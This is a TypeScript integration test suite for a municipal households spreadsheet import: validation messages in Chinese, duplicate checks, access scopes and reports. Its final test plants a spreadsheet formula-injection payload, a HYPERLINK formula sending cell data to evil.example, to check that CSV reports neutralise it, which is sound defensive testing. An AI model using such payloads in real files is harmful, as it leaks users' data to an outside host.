import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Gender, Role } from '@wanjia/shared';
import type { DatabaseConfig } from '../src/config';
import type { Orm } from '../src/db/orm';
import { AuditEntry } from '../src/modules/audit/audit-entry.entity';
import { Household } from '../src/modules/households/household.entity';
import { Resident } from '../src/modules/households/resident.entity';
import { DataImportRow } from '../src/modules/imports/data-import.entity';
import { importProblemRecords } from '../src/modules/imports/import-problems.export';
import { UserAccount } from '../src/modules/accounts/user-account.entity';
import { actorOf } from '../src/modules/auth/auth.service';
import type { Actor } from '../src/core/caller';
import type { Region } from '../src/modules/regions/region.entity';
import { databaseKinds, dropScratchDatabase, migratedOrm } from './support/databases';
import { createAccount, createHouseholdWithResidents, createRegionTree, tokenFor, validIdNumber, type RegionTree } from './support/factories';
import {
  checkedImport,
  committedImport,
  csvOf,
  problemsOf,
  rowsOfXlsx,
  settledImport,
  uploadImport,
  xlsxOf,
  type ProblemView,
  type Sheet,
} from './support/imports';
import { startApp, type RunningApp } from './support/server';

/**
 * The households import over HTTP (issue 16): upload, the dry run's problems (row, the file's own header,
 * what is wrong, in Chinese), duplicates in the file and against the database, the cross-district
 * duplicate told without details (and the city's administrators told where), warnings accepted,
 * commit, the same file twice, update mode, the report and the template, scope refusals.
 */

const HEADER = [
  '户编号',
  '户主姓名',
  '户主身份证号',
  '地址',
  '所在村(社区)',
  '联系电话',
  '帮扶类别',
  '困难原因',
  '姓名',
  '与户主关系',
  '性别',
  '身份证号',
  '出生日期',
  '重点关注原因',
  '是否信访人',
];

interface Person {
  code?: string;
  head: string;
  headId?: string;
  address: string;
  village: string;
  phone?: string;
  groups?: string;
  reasons?: string;
  name: string;
  relation: string;
  gender?: string;
  id?: string;
  birth?: string;
  focus?: string;
  petitioner?: string;
}

function rowOf(person: Person): string[] {
  return [
    person.code ?? '',
    person.head,
    person.headId ?? '',
    person.address,
    person.village,
    person.phone ?? '',
    person.groups ?? '困难家庭',
    person.reasons ?? '',
    person.name,
    person.relation,
    person.gender ?? '',
    person.id ?? '',
    person.birth ?? '',
    person.focus ?? '',
    person.petitioner ?? '',
  ];
}

const sheetOf = (people: Person[]): Sheet => [HEADER, ...people.map(rowOf)];

let birthSerial = 0;
/** A valid ID number of 平山区 (210502) with a birth date of its own, so no two tests share one. */
function freshId(county = '210502'): { id: string; birth: string } {
  birthSerial += 1;
  const day = new Date(Date.UTC(1950, 0, 1) + birthSerial * 86_400_000).toISOString().slice(0, 10);
  return { id: validIdNumber(county, day), birth: day };
}

/** A one-person household of 东兴社区 with a fresh ID number. */
function single(name: string, extra: Partial<Person> = {}): Person {
  const { id } = freshId();
  return { head: name, address: `东兴社区${name}家`, village: '平山区/站前街道/东兴社区', name, relation: '户主', id, ...extra };
}

const byRow = (problems: ProblemView[], row: number) => problems.filter((found) => found.rowNumber === row).map((found) => [found.column, found.code]);

describe.each(databaseKinds())('households import on %s', (kind) => {
  let orm: Orm;
  let database: DatabaseConfig;
  let server: RunningApp;
  let tree: RegionTree;
  let importDir: string;
  let district: Record<string, string>;
  let city: Record<string, string>;
  let otherDistrict: Record<string, string>;
  /** 平山区/站前街道/东兴社区, as offices write it. */
  const DONGXING = '平山区/站前街道/东兴社区';

  async function adminHeaders(scope: Region, role: Role = Role.ADMIN): Promise<Record<string, string>> {
    const account = await createAccount(orm.em.fork(), { role, scopeRegion: scope });
    return { authorization: `Bearer ${await tokenFor(account, server)}` };
  }

  beforeAll(async () => {
    ({ orm, database } = await migratedOrm(kind, 'imports'));
    tree = await createRegionTree(orm.em.fork());
    importDir = fs.mkdtempSync(path.join(os.tmpdir(), 'wanjia-imports-'));
    server = await startApp(orm, database, (config) => ({ ...config, imports: { ...config.imports, dir: importDir, maxRows: 1000, elsewherePerDay: 3 } }));
    district = await adminHeaders(tree.pingshan);
    city = await adminHeaders(tree.city);
    otherDistrict = await adminHeaders(tree.xihu);
  });

  afterAll(async () => {
    await server.close();
    await orm.close(true);
    await dropScratchDatabase(database);
    fs.rmSync(importDir, { recursive: true, force: true });
  });

  it('checks a clean file, commits it in one audit entry, and traces every resident to its import and row', async () => {
    const headId = validIdNumber('210502', '1958-06-15');
    const wifeId = validIdNumber('210502', '1960-02-01');
    const other = validIdNumber('210502', '1975-03-04');
    const file = await xlsxOf(
      sheetOf([
        {
          head: '张建国',
          headId,
          address: '东兴社区3组15号',
          village: DONGXING,
          phone: '13904141234',
          groups: '困难家庭、重点关注',
          reasons: '因病、因残',
          name: '张建国',
          relation: '户主',
          id: headId,
          focus: '社会无业人员',
        },
        {
          head: '张建国',
          headId,
          address: '东兴社区3组15号',
          village: DONGXING,
          phone: '13904141234',
          groups: '困难家庭、重点关注',
          reasons: '因病、因残',
          name: '王桂芝',
          relation: '配偶',
          id: wifeId,
          birth: '1960-02-01',
        },
        { head: '刘明', address: '东兴社区5组2号', village: '210502001001', name: '刘明', relation: '户主', id: other, petitioner: '是', groups: '信访群众' },
      ]),
    );
    const checked = await checkedImport(server, district, 'HOUSEHOLDS', file);
    expect(checked).toMatchObject({ state: 'CHECKED', rowsTotal: 3, counts: { rows: 3, ready: 3, warnings: 0, refused: 0, created: 0 } });
    expect(await orm.em.fork().count(Household, { headName: '张建国' })).toBe(0);

    const done = await committedImport(server, district, checked.id);
    expect(done).toMatchObject({ state: 'COMMITTED', counts: { created: 3, refused: 0 } });
    const em = orm.em.fork();
    const [zhang] = await em.find(Household, { headName: '张建国' }, { populate: ['region'] });
    expect(zhang).toMatchObject({
      address: '东兴社区3组15号',
      phone: '13904141234',
      isHardship: true,
      isKeyFocus: true,
      hardshipReasons: ['ILLNESS', 'DISABILITY'],
    });
    expect(zhang!.region.code).toBe('210502001001');
    const members = await em.find(Resident, { household: zhang!.id }, { orderBy: { id: 'asc' } });
    expect(members.map((member) => [member.name, member.relation, member.gender, member.birthDate, member.keyFocusReason])).toEqual([
      ['张建国', 'HEAD', 'MALE', '1958-06-15', 'UNEMPLOYED'],
      ['王桂芝', 'SPOUSE', headId === wifeId ? 'MALE' : members[1]!.gender, '1960-02-01', null],
    ]);
    const rows = await em.find(DataImportRow, { dataImport: Number(checked.id) }, { orderBy: { rowNumber: 'asc' } });
    expect(rows.map((row) => [row.rowNumber, row.outcome, row.entityName])).toEqual([
      [2, 'CREATED', 'Resident'],
      [3, 'CREATED', 'Resident'],
      [4, 'CREATED', 'Resident'],
    ]);
    expect(rows[0]!.entityId).toBe(members[0]!.id);
    const audit = await em.find(AuditEntry, { operation: 'commitImport', entityId: checked.id });
    expect(audit).toHaveLength(1);
    expect(JSON.parse(audit[0]!.changes!)).toMatchObject({ fileHash: checked.fileHash, created: 3, rows: 3 });
  });

  it('names each row problem with the header as the file has it, in Chinese, and writes nothing in the dry run', async () => {
    const good = freshId();
    const bad = freshId();
    const broken = `${bad.id.slice(0, 17)}${bad.id[17] === '0' ? '1' : '0'}`;
    const dup = freshId();
    const existing = freshId();
    const em = orm.em.fork();
    await createHouseholdWithResidents(em, { region: tree.dongxing, headName: '钱老大', address: '东兴社区老户1号' }, [
      { name: '钱老大', idNumber: existing.id },
    ]);
    const file = await xlsxOf([
      // Offices' own spellings of the headers: full-width brackets, 家庭住址, 身份证号码.
      ['户主姓名', '家庭住址', '村（社区）', '联系电话', '帮扶类别', '困难原因', '姓名', '与户主关系', '性别', '身份证号码', '出生日期', '备注'],
      ['赵一', '东兴社区1号', DONGXING, '12345', '困难家庭', '', '赵一', '户主', '', broken, '', ''],
      ['孙二', '东兴社区2号', DONGXING, '', '困难户', '', '孙二', '户主', '', good.id, '1990-01-01', ''],
      ['周三', '东兴社区3号', '210503001001', '', '困难家庭', '', '周三', '户主', '', freshId().id, '', ''],
      ['吴四', '东兴社区4号', '站前街道', '', '困难家庭', '', '吴四', '户主', '', freshId().id, '', ''],
      ['郑五', '东兴社区5号', '没有这个村', '', '困难家庭', '', '', '老乡', '男', '', '', ''],
      ['冯六', '东兴社区6号', DONGXING, '', '困难家庭', '', '冯六', '户主', '', dup.id, '', ''],
      ['陈七', '东兴社区7号', DONGXING, '', '困难家庭', '', '陈七', '户主', '', dup.id, '', ''],
      ['钱老大', '东兴社区老户1号', DONGXING, '', '困难家庭', '', '钱老大', '户主', '', existing.id, '', ''],
      ['钱老大', '东兴社区老户1号', DONGXING, '', '困难家庭', '', '钱小', '子女', '男', '', '', ''],
      ['褚八', '东兴社区8号', DONGXING, { formula: '"139"&"04141235"', result: '13904141235' }, '困难家庭', '', '褚八', '户主', '', freshId().id, '', ''],
    ]);
    const checked = await checkedImport(server, district, 'HOUSEHOLDS', file);
    expect(checked).toMatchObject({ state: 'CHECKED', failure: null });
    const problems = await problemsOf(server, district, checked.id);
    expect(byRow(problems, 1)).toEqual([['备注', 'UNKNOWN_COLUMN']]);
    expect(byRow(problems, 2)).toEqual(
      expect.arrayContaining([
        ['联系电话', 'BAD_PHONE'],
        ['身份证号码', 'ID_CHECK_DIGIT'],
      ]),
    );
    expect(problems.find((found) => found.rowNumber === 2 && found.code === 'ID_CHECK_DIGIT')!.message).toBe('身份证号校验码错误');
    expect(byRow(problems, 3)).toEqual(
      expect.arrayContaining([
        ['帮扶类别', 'NOT_IN_LIST'],
        ['出生日期', 'BIRTH_DATE_MISMATCH'],
      ]),
    );
    expect(problems.find((found) => found.rowNumber === 3 && found.code === 'NOT_IN_LIST')!.message).toBe(
      '“困难户”不在可选列表中：困难家庭、重点关注、信访群众',
    );
    expect(problems.find((found) => found.rowNumber === 4)).toMatchObject({
      column: '村（社区）',
      code: 'OUT_OF_SCOPE',
      message: '“210503001001”不在您管辖范围内',
    });
    expect(byRow(problems, 5)).toEqual([['村（社区）', 'NOT_A_VILLAGE']]);
    expect(problems.find((found) => found.rowNumber === 5)!.message).toBe('“站前街道”是街道，应填写到村或社区');
    expect(byRow(problems, 6)).toEqual(
      expect.arrayContaining([
        ['姓名', 'REQUIRED'],
        ['与户主关系', 'NOT_IN_LIST'],
      ]),
    );
    expect(byRow(problems, 8)).toEqual([[null, 'DUPLICATE_IN_FILE']]);
    expect(problems.find((found) => found.rowNumber === 8)!.message).toBe('与第7行重复（身份证号相同）');
    expect(problems.find((found) => found.rowNumber === 9)).toMatchObject({ column: '身份证号码', code: 'DUPLICATE_IN_DATABASE', severity: 'ERROR' });
    // The household is written whole: its other member waits with it.
    expect(byRow(problems, 10)).toEqual([[null, 'GROUP_HAS_ERRORS']]);
    expect(problems.find((found) => found.rowNumber === 11)).toMatchObject({ column: '联系电话', code: 'FORMULA', message: '公式单元格：请粘贴为数值' });
    expect(checked.counts).toMatchObject({ rows: 10, ready: 1, refused: 9 });
    expect(await orm.em.fork().count(Household, { headName: { $in: ['赵一', '冯六', '褚八'] } })).toBe(0);

    // The report: the file's rows as they were, with every problem of each row in a 问题 column.
    const response = await fetch(`${server.url}/imports/${checked.id}/report.xlsx`, { headers: district });
    expect(response.status).toBe(200);
    const report = await rowsOfXlsx(await response.arrayBuffer());
    expect(report[0]).toEqual([
      ...['户主姓名', '家庭住址', '村（社区）', '联系电话', '帮扶类别', '困难原因', '姓名', '与户主关系', '性别', '身份证号码', '出生日期', '备注'],
      '问题',
    ]);
    expect(report[1]![9]).toBe(broken);
    expect(report[1]![12]).toContain('身份证号码：身份证号校验码错误');
    expect(report[1]![12]).toContain('联系电话：');
    expect(report[7]![12]).toBe('与第7行重复（身份证号相同）');
    expect(report[6]![12]).toBe('');
  });

  it('warns of likely duplicates in the file and in the database, and writes warned rows only once accepted', async () => {
    const em = orm.em.fork();
    await createHouseholdWithResidents(em, { region: tree.dongxing, headName: '林大海', address: '东兴社区９号', phone: '13904149999' }, [
      { name: '林大海', idNumber: freshId().id },
    ]);
    const file = await xlsxOf(
      sheetOf([
        single('林大海', { address: '东兴社区 9 號' }),
        // Two heads of the same name at one address, told apart by their ID numbers: two households, likely one.
        (({ id }) => single('何平', { address: '东兴社区10号', headId: id, id }))(freshId()),
        (({ id }) => single('何平', { address: '东兴社区10号', headId: id, id }))(freshId()),
        single('单身汉'),
      ]),
    );
    const checked = await checkedImport(server, district, 'HOUSEHOLDS', file);
    const problems = await problemsOf(server, district, checked.id);
    // Width, spaces and 號/号 do not hide the same address.
    expect(problems.find((found) => found.rowNumber === 2)).toMatchObject({ column: '地址', code: 'LIKELY_DUPLICATE', severity: 'WARNING', accepted: false });
    expect(problems.find((found) => found.rowNumber === 4)).toMatchObject({
      column: null,
      code: 'LIKELY_DUPLICATE_IN_FILE',
      message: '疑似与第3行重复（户主姓名和地址相同）',
    });
    expect(checked.counts).toMatchObject({ rows: 4, ready: 2, warnings: 2, accepted: 0, refused: 0 });

    const accept = await server.graphql<{ acceptImportWarnings: { counts: { accepted: number } } }>(
      'mutation ($input: AcceptImportWarningsInput!) { acceptImportWarnings(input: $input) { counts { accepted } } }',
      { input: { importId: checked.id, rowNumbers: [4] } },
      district,
    );
    expect(accept.data?.acceptImportWarnings.counts.accepted).toBe(1);
    const done = await committedImport(server, district, checked.id);
    // The accepted twin is written after the first 何平 household exists: it is not refused for that at commit.
    expect(done.counts).toMatchObject({ created: 3, refused: 1 });
    expect(await orm.em.fork().count(Household, { headName: '林大海' })).toBe(1);
    expect(await orm.em.fork().count(Household, { headName: '何平' })).toBe(2);
  });

  it('refuses to accept errors, naming rowNumbers, and accepts nothing then', async () => {
    const { id } = freshId();
    const file = await xlsxOf(
      sheetOf([
        single('错一', { id: `${id.slice(0, 17)}${id[17] === '1' ? '2' : '1'}` }),
        single('甲乙', { address: '同一地址' }),
        single('甲乙', { address: '同一地址' }),
      ]),
    );
    const checked = await checkedImport(server, district, 'HOUSEHOLDS', file);
    const body = await server.graphql(
      'mutation ($input: AcceptImportWarningsInput!) { acceptImportWarnings(input: $input) { id } }',
      { input: { importId: checked.id, rowNumbers: [2, 4] } },
      district,
    );
    expect(body.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: expect.stringMatching(/^input\.rowNumbers(\.0)?$/) });
    const after = await settledImport(server, district, checked.id);
    expect(after.counts.accepted).toBe(0);
  });

  it('tells a district of a person registered in another district without where, tells the city where, and audits each finding by a keyed hash', async () => {
    const em = orm.em.fork();
    const elsewhere = freshId('210503');
    await createHouseholdWithResidents(em, { region: tree.xiangyang, headName: '外区人' }, [{ name: '外区人', idNumber: elsewhere.id }]);
    const importer = await createAccount(orm.em.fork(), { role: Role.ADMIN, scopeRegion: tree.pingshan });
    const headers = { authorization: `Bearer ${await tokenFor(importer, server)}` };
    const checked = await checkedImport(server, headers, 'HOUSEHOLDS', await xlsxOf(sheetOf([single('外区人', { id: elsewhere.id }), single('本区人')])));
    const [finding] = (await problemsOf(server, headers, checked.id)).filter((found) => found.rowNumber === 2);
    expect(finding).toMatchObject({
      column: '身份证号',
      code: 'DUPLICATE_ELSEWHERE',
      severity: 'WARNING',
      message: '该人员已在本市其他地区登记',
      elsewhere: null,
    });
    const asCity = (await problemsOf(server, city, checked.id)).find((found) => found.rowNumber === 2);
    expect(asCity?.elsewhere).toBe('向阳社区');
    // The other district's administrator cannot even see the import.
    const outside = await server.graphql('query ($id: ID!) { dataImport(id: $id) { id } }', { id: checked.id }, otherDistrict);
    expect(outside.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    // The record list's export (record-lists) answers the same way: where, for the city only; nothing for another district.
    const records = async (caller: Actor) => {
      const found = [];
      for await (const record of importProblemRecords(orm.em.fork(), { actor: caller, clientAddress: null }, Number(checked.id))) found.push(record);
      return found;
    };
    const importerActor = actorOf(await orm.em.fork().findOneOrFail(UserAccount, importer.id, { populate: ['scopeRegion'] }));
    expect((await records(importerActor)).find((record) => record.rowNumber === 2)).toMatchObject({ code: 'DUPLICATE_ELSEWHERE', elsewhere: null });
    const cityAccount = await createAccount(orm.em.fork(), { role: Role.ADMIN, scopeRegion: tree.city });
    expect((await records(actorOf(cityAccount))).find((record) => record.rowNumber === 2)?.elsewhere).toBe('向阳社区');
    const xihuAccount = await createAccount(orm.em.fork(), { role: Role.ADMIN, scopeRegion: tree.xihu });
    await expect(records(actorOf(xihuAccount))).rejects.toMatchObject({ code: 'FORBIDDEN' });
    const trail = await orm.em.fork().find(AuditEntry, { operation: 'importDuplicateElsewhere', actor: importer.id });
    expect(trail).toHaveLength(1);
    expect(trail[0]!.changes).not.toContain(elsewhere.id);
    expect(JSON.parse(trail[0]!.changes!)).toMatchObject({ rowNumber: 2, idNumberHash: expect.stringMatching(/^[0-9a-f]{32}$/) });
  });

  it('past the daily bound of cross-district findings answers every ID-carrying row the same neutral way', async () => {
    const em = orm.em.fork();
    const registered = [freshId('210503'), freshId('210503'), freshId('210503'), freshId('210503')];
    for (const [index, person] of registered.entries()) {
      await createHouseholdWithResidents(em, { region: tree.xiangyang, headName: `外区${index}` }, [{ name: `外区${index}`, idNumber: person.id }]);
    }
    const importer = await createAccount(orm.em.fork(), { role: Role.ADMIN, scopeRegion: tree.pingshan });
    const headers = { authorization: `Bearer ${await tokenFor(importer, server)}` };
    // The bound is 3 a day here: the fourth registered number and an unregistered one get the same answer.
    const people = [...registered.map((person, index) => single(`外区${index}`, { id: person.id })), single('无人登记')];
    const checked = await checkedImport(server, headers, 'HOUSEHOLDS', await xlsxOf(sheetOf(people)));
    const codes = (await problemsOf(server, headers, checked.id)).map((found) => [found.rowNumber, found.code, found.message]);
    expect(codes).toEqual([
      [2, 'DUPLICATE_ELSEWHERE', '该人员已在本市其他地区登记'],
      [3, 'DUPLICATE_ELSEWHERE', '该人员已在本市其他地区登记'],
      [4, 'DUPLICATE_ELSEWHERE', '该人员已在本市其他地区登记'],
      [5, 'ELSEWHERE_UNCHECKED', '跨区查重次数已用完，请市级管理员核查'],
      [6, 'ELSEWHERE_UNCHECKED', '跨区查重次数已用完，请市级管理员核查'],
    ]);
  });

  it('creates nothing when the same file is committed again: each row is UNCHANGED, naming the import and row that wrote it', async () => {
    const file = await xlsxOf(sheetOf([single('重传甲'), single('重传乙')]));
    const first = await committedImport(server, district, (await checkedImport(server, district, 'HOUSEHOLDS', file)).id);
    expect(first.counts.created).toBe(2);
    const again = await checkedImport(server, district, 'HOUSEHOLDS', file);
    const problems = await problemsOf(server, district, again.id);
    expect(problems.map((found) => [found.rowNumber, found.code, found.message, found.accepted])).toEqual([
      [2, 'ALREADY_IMPORTED', `已由导入#${first.id}第2行写入`, true],
      [3, 'ALREADY_IMPORTED', `已由导入#${first.id}第3行写入`, true],
    ]);
    const second = await committedImport(server, district, again.id);
    expect(second.counts).toMatchObject({ created: 0, unchanged: 2, refused: 0 });
    expect(await orm.em.fork().count(Household, { headName: { $in: ['重传甲', '重传乙'] } })).toBe(2);
  });

  it('updates the existing household in update mode: its version bumped, a new member added, the changed fields in the import entry', async () => {
    const em = orm.em.fork();
    const head = freshId();
    const { household } = await createHouseholdWithResidents(
      em,
      { region: tree.dongxing, headName: '更新户', address: '东兴社区更新1号', phone: '13904140001' },
      [{ name: '更新户', idNumber: head.id, birthDate: head.birth, gender: Gender.MALE }],
    );
    const child = freshId();
    const people = [
      { head: '更新户', headId: head.id, address: '东兴社区更新1号', village: DONGXING, phone: '13904140002', name: '更新户', relation: '户主', id: head.id },
      { head: '更新户', headId: head.id, address: '东兴社区更新1号', village: DONGXING, phone: '13904140002', name: '更新子', relation: '子女', id: child.id },
    ];
    const refused = await checkedImport(server, district, 'HOUSEHOLDS', await xlsxOf(sheetOf(people)));
    expect(refused.counts.refused).toBe(2);
    const checked = await checkedImport(server, district, 'HOUSEHOLDS', await xlsxOf(sheetOf(people)), { mode: 'UPDATE_EXISTING' });
    expect(checked.counts).toMatchObject({ ready: 2, refused: 0 });
    const done = await committedImport(server, district, checked.id);
    expect(done.counts).toMatchObject({ updated: 1, created: 1 });
    const after = await orm.em.fork().findOneOrFail(Household, household.id);
    expect(after.phone).toBe('13904140002');
    expect(after.version).toBe(household.version + 1);
    expect(await orm.em.fork().count(Resident, { household: household.id })).toBe(2);
    const [entry] = await orm.em.fork().find(AuditEntry, { operation: 'commitImport', entityId: checked.id });
    expect(JSON.parse(entry!.changes!)).toMatchObject({ updated: 1, created: 1, changedFields: expect.arrayContaining(['household.phone']) });
  });

  it('reads CSV in GB18030 (4-byte characters too) and UTF-8 with a BOM, and writes the CSV report back in the upload encoding', async () => {
    const rare = single('𠀀䶮', { address: '东兴社区生僻字1号' });
    const gb = await checkedImport(server, district, 'HOUSEHOLDS', csvOf(sheetOf([rare]) as string[][], 'gb18030'), { fileName: 'list.csv' });
    expect(gb).toMatchObject({ state: 'CHECKED', counts: { ready: 1 } });
    await committedImport(server, district, gb.id);
    expect(await orm.em.fork().count(Household, { headName: '𠀀䶮' })).toBe(1);
    const bom = await checkedImport(server, district, 'HOUSEHOLDS', csvOf(sheetOf([single('带BOM', { phone: '1234' })]) as string[][], 'utf-8-bom'), {
      fileName: 'bom.csv',
    });
    expect(bom.counts).toMatchObject({ rows: 1, refused: 1 });
    const gbReport = await fetch(`${server.url}/imports/${gb.id}/report.csv`, { headers: district });
    expect(gbReport.headers.get('content-type')).toContain('gb18030');
    const text = (await import('iconv-lite')).decode(Buffer.from(await gbReport.arrayBuffer()), 'gb18030');
    expect(text.split('\r\n')[0]).toBe(`${HEADER.join(',')},问题`);
    expect(text).toContain('𠀀䶮');
  });

  it('downloads a template with Chinese headers, an example row and drop-down lists, and a fixed report uploads again', async () => {
    const response = await fetch(`${server.url}/imports/templates/HOUSEHOLDS.xlsx`, { headers: district });
    expect(response.status).toBe(200);
    const bytes = Buffer.from(await response.arrayBuffer());
    const rows = await rowsOfXlsx(bytes);
    expect(rows[0]).toEqual(HEADER);
    expect(rows[1]![1]).toBe('张建国');
    const ExcelJS = (await import('exceljs')).default;
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const validation = workbook.worksheets[0]!.getCell('J2').dataValidation;
    expect(validation).toMatchObject({ type: 'list' });

    // The report of a file with a bad phone, fixed in place and uploaded again: the 问题 column is ignored.
    const checked = await checkedImport(server, district, 'HOUSEHOLDS', await xlsxOf(sheetOf([single('改正后', { phone: '1390414' })])));
    const report = await rowsOfXlsx(await (await fetch(`${server.url}/imports/${checked.id}/report.xlsx`, { headers: district })).arrayBuffer());
    report[1]![5] = '13904141111';
    const again = await checkedImport(server, district, 'HOUSEHOLDS', await xlsxOf(report));
    expect(again.counts).toMatchObject({ ready: 1, refused: 0 });
    expect((await problemsOf(server, district, again.id)).filter((found) => found.code === 'UNKNOWN_COLUMN')).toEqual([]);
  });

  it('refuses analysts and cadres, and imports nothing into a district the importer does not manage', async () => {
    const analyst = await adminHeaders(tree.pingshan, Role.ANALYST);
    const file = await xlsxOf(sheetOf([single('无权')]));
    expect((await uploadImport(server, analyst, 'HOUSEHOLDS', file)).status).toBe(403);
    const cadre = await createAccount(orm.em.fork(), { role: Role.CADRE });
    expect((await uploadImport(server, { authorization: `Bearer ${await tokenFor(cadre, server)}` }, 'HOUSEHOLDS', file)).status).toBe(403);
    expect((await uploadImport(server, {}, 'HOUSEHOLDS', file)).status).toBe(401);
    const list = await server.graphql('{ dataImports(first: 5) { totalCount } }', {}, analyst);
    expect(list.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    const outside = await checkedImport(server, otherDistrict, 'HOUSEHOLDS', await xlsxOf(sheetOf([single('越界', { village: DONGXING })])));
    expect((await problemsOf(server, otherDistrict, outside.id))[0]).toMatchObject({ code: 'OUT_OF_SCOPE', message: `“${DONGXING}”不在您管辖范围内` });
    const report = await fetch(`${server.url}/imports/${outside.id}/report.xlsx`, { headers: district });
    expect(report.status).toBe(404);
  });

  it('adds a member appended to a list already imported to its household, not to a second one', async () => {
    const head = single('补录户');
    const first = await committedImport(server, district, (await checkedImport(server, district, 'HOUSEHOLDS', await xlsxOf(sheetOf([head])))).id);
    expect(first.counts.created).toBe(1);
    const [household] = await orm.em.fork().find(Household, { headName: '补录户' });
    const newborn = { ...head, name: '补录新生', relation: '子女', id: freshId().id };
    const again = await checkedImport(server, district, 'HOUSEHOLDS', await xlsxOf(sheetOf([head, newborn])));
    expect(again.counts).toMatchObject({ rows: 2, ready: 2, refused: 0 });
    const done = await committedImport(server, district, again.id);
    expect(done.counts).toMatchObject({ created: 1, unchanged: 1 });
    expect(await orm.em.fork().count(Household, { headName: '补录户' })).toBe(1);
    const members = await orm.em.fork().find(Resident, { household: household!.id }, { orderBy: { id: 'asc' } });
    expect(members.map((member) => member.name)).toEqual(['补录户', '补录新生']);
    expect((await orm.em.fork().findOneOrFail(Household, household!.id)).version).toBe(household!.version + 1);
  });

  it('neutralises cells that start like a formula in the CSV report, and reads the fixed report back as the original', async () => {
    const formula = '=HYPERLINK("http://evil.example/?d="&A2,"点此查看")';
    const people = [single('公式户', { address: formula }), single('+1+cmd', { address: '@SUM(1+1)' })];
    const original = csvOf(sheetOf(people) as string[][]);
    const first = await committedImport(server, district, (await checkedImport(server, district, 'HOUSEHOLDS', original, { fileName: 'f.csv' })).id);
    expect(first.counts.created).toBe(2);
    expect(await orm.em.fork().count(Household, { address: formula })).toBe(1);
    const response = await fetch(`${server.url}/imports/${first.id}/report.csv`, { headers: district });
    const report = Buffer.from(await response.arrayBuffer());
    const text = report.toString('utf8');
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A2,""点此查看"")"`);
    expect(text).toContain("'+1+cmd");
    expect(text).toContain("'@SUM(1+1)");
    expect(text.split('\r\n').some((line) => /(^|,)[=+@]/.test(line))).toBe(false);
    // Uploaded again, the report is the same file: every row was written already (the 问题 column is ignored).
    const again = await checkedImport(server, district, 'HOUSEHOLDS', report, { fileName: 'f-report.csv' });
    expect((await problemsOf(server, district, again.id)).map((found) => found.code)).toEqual(['ALREADY_IMPORTED', 'ALREADY_IMPORTED']);
  });
});
